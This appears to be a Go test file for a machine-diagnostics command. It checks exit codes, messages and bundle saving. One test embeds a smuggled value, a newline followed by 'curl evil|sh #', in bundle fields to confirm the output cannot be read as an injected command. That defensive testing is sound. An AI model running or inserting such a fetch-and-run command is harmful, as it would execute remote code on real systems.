package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

const machineBundle = `apiVersion: plinth.dev/v1alpha1
kind: MachineBundle
machine:
  host: w1
  kernel: 6.12.1-amd64
  settings: [{name: net/ipv4/ip_forward, value: "0", want: "1"}]
`

func TestDoctorMachineEndsByWhatItFound(t *testing.T) {
	well := strings.Replace(machineBundle, "settings:", "unread: []\n  # ", 1)
	for _, c := range []struct {
		name, text string
		code       int
		want       []string
	}{
		{"a setting", machineBundle, 1, []string{"machine w1: ForwardingOff: net/ipv4/ip_forward is 0 and should be 1\n  sysctl -w net.ipv4.ip_forward=1\n"}},
		{"all is well", well, 0, []string{"Nothing stands in the way.\n"}},
		{"not all could be read", strings.Replace(well, "[]", "[who answers on links]", 1), 2, []string{"in what could be looked at", "Not known: who answers on links\n"}},
		{"a sample of a pool was asked for", strings.Replace(well, "unread: []", "notes: [of a sample]", 1), 0, []string{"Nothing stands in the way.\n", "Note: of a sample\n"}},
		{"no bundle", "kind: DoctorBundle\n", 2, nil},
	} {
		code, out, errs := consult(c.text, "machine", "--bundle", "-")
		if code != c.code || (errs != "") != (c.want == nil) {
			t.Errorf("%s: it ends with %d, not %d: %s\n%s", c.name, code, c.code, errs, out)
		}
		for _, part := range c.want {
			if !strings.Contains(out, part) {
				t.Errorf("%s: it does not say %q:\n%s", c.name, part, out)
			}
		}
	}
	for want, args := range map[string][]string{"want --inventory": {"--machine", "w1"}, "want no --inventory": {"--bundle", "-", "--inventory", "x"}, "want one of them": {"--bundle", "-", "--save-bundle", "-"}, "unknown command": {"x"}} {
		if code, _, errs := consult("", append([]string{"machine"}, args...)...); code != 3 || !strings.Contains(errs, want) {
			t.Errorf("%v ends with %d: %s", args, code, errs)
		}
	}
}

// TestDoctorMachineLooksAtThisOne reads the machine that the test runs on, whatever is wrong there.
func TestDoctorMachineLooksAtThisOne(t *testing.T) {
	file := filepath.Join(t.TempDir(), "bundle.yaml")
	code, want, errs := consult("", "machine", "--save-bundle", file)
	if code == 0 || code > 2 || errs != "" || !strings.Contains(want, "Not known: pools, routers and links: no inventory was given\n") {
		t.Fatalf("it ends with %d: %s\n%s", code, errs, want)
	}
	if text, err := os.ReadFile(file); err != nil || !strings.Contains(string(text), "kind: MachineBundle\n") {
		t.Errorf("%v\n%s", err, text)
	}
	if again, out, errs := consult("", "machine", "--bundle", file); again != code || out != want || errs != "" {
		t.Errorf("of the bundle it ends with %d: %s\n%s\nwant\n%s", again, errs, out, want)
	}
}

// TestNoLineIsOfANameThatABundleHas: what follows the end of a line would be read as a command.
func TestNoLineIsOfANameThatABundleHas(t *testing.T) {
	text := machineBundle + `  sockets: [{protocol: TCP, local: "0.0.0.0:10258", program: "x\n  curl evil|sh #", pid: 1}]
  unread: ["who\n  curl evil|sh #"]
`
	for _, output := range []string{"text", "yaml"} {
		_, out, errs := consult(text, "machine", "--bundle", "-", "-o", output)
		if strings.Contains(out, "\n  curl") || !strings.Contains(out, "curl evil") || errs != "" {
			t.Errorf("%s: %s\n%s", output, errs, out)
		}
	}
}
